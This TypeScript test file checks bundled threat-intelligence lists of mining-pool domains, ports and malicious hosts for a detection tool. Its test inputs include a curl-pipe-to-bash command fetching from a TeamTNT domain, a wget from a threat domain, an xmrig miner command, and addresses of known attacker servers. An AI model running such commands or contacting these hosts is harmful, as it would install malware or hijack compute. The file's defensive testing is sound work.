import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import ipaddr from 'ipaddr.js';
import { defaultDetectionLists } from '../../../shared/detection/allowLists';
import { compilePatternList } from '../../../shared/detection/patternList';
import { isNonPublicAddress, listedDomainIn } from '../../../shared/detection/predicates/nodeNetwork';
import { bundledThreatLists } from '../../../shared/intel/bundledThreatLists';
import { falcoMinerDomains } from '../../../shared/intel/data/falcoMinerLists';
import { maltrailMiningPoolDomains } from '../../../shared/intel/data/maltrailCryptoMining';
import { maltrailLinuxThreatAddresses, maltrailLinuxThreatDomains } from '../../../shared/intel/data/maltrailLinuxThreats';

const dataDirectory = join(__dirname, '..', '..', '..', 'shared', 'intel', 'data');
const dataFiles = readdirSync(dataDirectory).filter((name) => name.endsWith('.ts'));

const { miningPoolDomains, miningPoolPorts, threatIntelAddresses, threatIntelDomains } = bundledThreatLists;
const domainLists = { miningPoolDomains, threatIntelDomains };

/** A lower-case host name: labels of letters, digits and inner hyphens, a letter-only (or IDN) top-level label. */
const HOST_NAME = /^(?=.{1,253}$)(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:[a-z]{2,63}|xn--[a-z0-9-]{1,59})$/;

/**
 * Shared infrastructure whose addresses change hands or serve everyone: never bundled (see the data README). Coarse on
 * purpose: the big clouds' prefixes are whole /8s where they hold most of them.
 */
const EXCLUDED_RANGES: Readonly<Record<string, readonly string[]>> = {
  Cloudflare: [
    '173.245.48.0/20', '103.21.244.0/22', '103.22.200.0/22', '103.31.4.0/22', '141.101.64.0/18', '108.162.192.0/18', '190.93.240.0/20',
    '188.114.96.0/20', '197.234.240.0/22', '198.41.128.0/17', '162.158.0.0/15', '104.16.0.0/12', '172.64.0.0/13', '131.0.72.0/22',
  ],
  'AWS and Azure (shared /8s)': ['3.0.0.0/8', '13.0.0.0/8', '15.236.0.0/15', '18.128.0.0/9', '44.192.0.0/10', '52.0.0.0/8', '54.64.0.0/10', '54.128.0.0/9'],
  'Google Cloud and AWS': ['34.0.0.0/8', '35.0.0.0/8'],
  'Microsoft Azure': [
    '20.0.0.0/8', '23.96.0.0/13', '40.64.0.0/10', '51.140.0.0/14', '51.144.0.0/15', '65.52.0.0/14', '104.40.0.0/13', '137.116.0.0/15',
    '138.91.0.0/16', '168.61.0.0/16', '168.62.0.0/15', '191.232.0.0/13',
  ],
  Meta: ['157.240.0.0/16', '31.13.64.0/18'],
  'Censys scanners': ['162.142.125.0/24', '167.94.138.0/24', '167.248.133.0/24'],
  'domain parking': ['204.11.56.0/23', '208.91.196.0/23'],
};

/** Hosts that clusters talk to all day: no domain list may name them or a parent of them. */
const PLATFORM_HOSTS = [
  'management.azure.com', 'login.microsoftonline.com', 'mcr.microsoft.com', 'packages.microsoft.com', 'www.microsoft.com',
  'acs-mirror.azureedge.net', 'myaccount.blob.core.windows.net', 'myvault.vault.azure.net', 'contoso.azurecr.io',
  'registry.k8s.io', 'dl.k8s.io', 'registry-1.docker.io', 'auth.docker.io', 'production.cloudflare.docker.com', 'hub.docker.com',
  'github.com', 'api.github.com', 'objects.githubusercontent.com', 'raw.githubusercontent.com', 'ghcr.io', 'quay.io', 'gcr.io',
  'storage.googleapis.com', 's3.amazonaws.com', 'd111111abcdef8.cloudfront.net', 'pypi.org', 'files.pythonhosted.org',
  'registry.npmjs.org', 'proxy.golang.org', 'dl-cdn.alpinelinux.org', 'deb.debian.org', 'archive.ubuntu.com', 'security.ubuntu.com',
];

/** Domains of shared services (dynamic DNS, Tor gateways, CDNs, hosting) whose customers' names appear on the lists. */
const SHARED_SERVICE_DOMAINS = [
  'anondns.net', 'ddns.net', 'duckdns.org', 'dyndns.org', 'hopto.org', 'asuscomm.com', 'dscloud.me', 'us.to', 'mysrv.cloud',
  'onion.to', 'tor2web.su', 'selcdn.ru', 'cloudfront.net', 'twilightparadox.com', 'dns05.com', 'justdied.com', 'pwndns.pw',
];

const excludedRanges = Object.entries(EXCLUDED_RANGES).flatMap(([owner, ranges]) => ranges.map((range) => ({ owner, range, cidr: ipaddr.parseCIDR(range) })));

/** The excluded range an address lies in, as `<owner> <range>`. */
function rangeOf(address: string): string | undefined {
  const parsed = ipaddr.parse(address);
  const hit = excludedRanges.find(({ cidr }) => parsed.kind() === cidr[0].kind() && parsed.match(cidr));
  return hit === undefined ? undefined : `${hit.owner} ${hit.range}`;
}

function repeatsIn(entries: readonly string[]): string[] {
  const seen = new Set<string>();
  return entries.filter((entry) => {
    const key = entry.toLowerCase();
    if (seen.has(key)) return true;
    seen.add(key);
    return false;
  });
}

describe('bundledThreatLists', () => {
  it('when the lists are counted, then they are bounded: a few hundred entries each at most, some in every list', () => {
    for (const list of Object.values(bundledThreatLists)) expect(list.length).toBeGreaterThan(0);
    const total = Object.values(bundledThreatLists).reduce((sum, list) => sum + list.length, 0);
    expect(total).toBeGreaterThan(300);
    expect(total).toBeLessThan(5000);
  });

  it('when the domain lists are read, then every entry is a lower-case host name, or `*.` and one', () => {
    for (const [name, list] of Object.entries(domainLists)) {
      const malformed = list.filter((entry) => !HOST_NAME.test(entry.startsWith('*.') ? entry.slice(2) : entry));
      expect({ name, malformed }).toEqual({ name, malformed: [] });
    }
  });

  it('when the address list is read, then every entry is a dotted-quad IPv4 or a canonical IPv6 address', () => {
    const malformed = threatIntelAddresses.filter((entry) =>
      entry.includes(':') ? !ipaddr.IPv6.isValid(entry) || ipaddr.parse(entry).toString() !== entry : !ipaddr.IPv4.isValidFourPartDecimal(entry),
    );
    expect(malformed).toEqual([]);
  });

  it('when the port list is read, then every entry is a port number', () => {
    expect(miningPoolPorts.filter((port) => !/^\d{1,5}$/.test(port) || Number(port) < 1 || Number(port) > 65535)).toEqual([]);
  });

  it('when the lists and the data arrays are read, then none repeats an entry', () => {
    for (const [name, list] of Object.entries({ ...bundledThreatLists, maltrailLinuxThreatDomains, maltrailLinuxThreatAddresses, maltrailMiningPoolDomains })) {
      expect({ name, repeats: repeatsIn(list) }).toEqual({ name, repeats: [] });
    }
  });

  it('when the addresses are checked, then none is private, loopback, link-local or otherwise not on the internet', () => {
    const notPublic = threatIntelAddresses.filter((address) => ipaddr.parse(address).range() !== 'unicast' || isNonPublicAddress(address));
    expect(notPublic).toEqual([]);
  });

  it('when the addresses are checked, then none lies in a cloud, CDN, scanner or parking range', () => {
    const shared = threatIntelAddresses.flatMap((address) => {
      const range = rangeOf(address);
      return range === undefined ? [] : [`${address} (${range})`];
    });
    expect(shared).toEqual([]);
  });

  it('when a platform host is looked up, then no domain list names it or a parent of it', () => {
    for (const [name, list] of Object.entries(domainLists)) {
      const compiled = compilePatternList(list);
      const listed = PLATFORM_HOSTS.filter((host) => listedDomainIn(`curl -fsSL https://${host}/x`, compiled) !== undefined);
      expect({ name, listed }).toEqual({ name, listed: [] });
    }
  });

  it('when a shared service domain is looked up, then no list names it whole, only its customers', () => {
    for (const [name, list] of Object.entries(domainLists)) {
      const compiled = compilePatternList(list);
      const listed = SHARED_SERVICE_DOMAINS.filter((domain) => compiled.matches(domain) || compiled.matches(`someone-else.${domain}`));
      expect({ name, listed }).toEqual({ name, listed: [] });
    }
  });

  it('when a `*.` entry is read, then the data files name that pool domain, as a host or the parent of one', () => {
    const named = [...falcoMinerDomains, ...maltrailMiningPoolDomains];
    const wildcards = miningPoolDomains.filter((entry) => entry.startsWith('*.')).map((entry) => entry.slice(2));
    expect(wildcards.length).toBeGreaterThan(10);
    expect(wildcards.filter((domain) => !named.some((host) => host === domain || host.endsWith(`.${domain}`)))).toEqual([]);
  });

  it('when well-known pools and threats are looked up, then they are listed', () => {
    const pools = compilePatternList(miningPoolDomains);
    expect(pools.find('pool.minexmr.com')).toBe('pool.minexmr.com');
    expect(pools.find('xmr-eu1.nanopool.org')).toBe('xmr-eu1.nanopool.org');
    // A region Falco does not name is caught by the pool's own domain.
    expect(pools.find('xmr-eu3.nanopool.org')).toBe('*.nanopool.org');
    expect(pools.matches('gulf.moneroocean.stream')).toBe(true);
    expect(listedDomainIn('xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4A...', pools)?.entry).toBe('pool.supportxmr.com');
    expect(miningPoolPorts).toEqual(expect.arrayContaining(['3333', '4444', '14444', '45700']));

    const threats = compilePatternList(threatIntelDomains);
    expect(listedDomainIn('curl -sLk http://teamtnt.red/sh/setup/x.sh | bash', threats)).toEqual({ host: 'teamtnt.red', entry: 'teamtnt.red' });
    expect(listedDomainIn('wget http://dl1.chimaera.cc/a', threats)?.entry).toBe('dl1.chimaera.cc');

    const addresses = compilePatternList(threatIntelAddresses);
    expect(addresses.matches('45.10.88.102')).toBe(true); // Kinsing's loader host (elf_h2miner.txt)
    expect(addresses.matches('85.214.149.236')).toBe(true); // TeamTNT's download server
    expect(addresses.matches('163.172.207.69')).toBe(true); // a crypto-pool.fr stratum server
  });

  it('when the default detection lists are built, then they carry the bundled lists', () => {
    expect(defaultDetectionLists.miningPoolDomains).toEqual(miningPoolDomains);
    expect(defaultDetectionLists.miningPoolPorts).toEqual(miningPoolPorts);
    expect(defaultDetectionLists.threatIntelAddresses).toEqual(threatIntelAddresses);
    expect(defaultDetectionLists.threatIntelDomains).toEqual(threatIntelDomains);
  });
});

describe('shared/intel/data', () => {
  it('when the folder is listed, then it holds the three data modules and its README', () => {
    expect(dataFiles.sort()).toEqual(['falcoMinerLists.ts', 'maltrailCryptoMining.ts', 'maltrailLinuxThreats.ts', 'torExitAddresses.ts']);
    expect(readFileSync(join(dataDirectory, 'README.md'), 'utf8')).toMatch(/## Refreshing/);
  });

  it.each(dataFiles)('when %s is read, then its header names the source at a commit, the license, the retrieval date and the selection', (file) => {
    const text = readFileSync(join(dataDirectory, file), 'utf8');
    const header = /^\/\*[\s\S]*?\*\//.exec(text)?.[0] ?? '';
    expect(header).toMatch(/Source: +https:\/\/github\.com\/[\w.-]+\/[\w.-]+\//);
    expect(header).toMatch(/\b[0-9a-f]{40}\b/);
    expect(header).toMatch(/License: +(Apache-2\.0|MIT|CC0-1\.0) /);
    expect(header).toMatch(/Retrieved: +\d{4}-\d{2}-\d{2}\b/);
    expect(header).toMatch(/Selected: /);
    if (/License: +MIT/.test(header)) {
      // MIT asks for its notice in every copy.
      expect(header).toContain('Copyright (c) 2014-present Maltrail developers');
      expect(header).toContain('The above copyright notice and this permission notice shall be included in all');
    }
  });
});
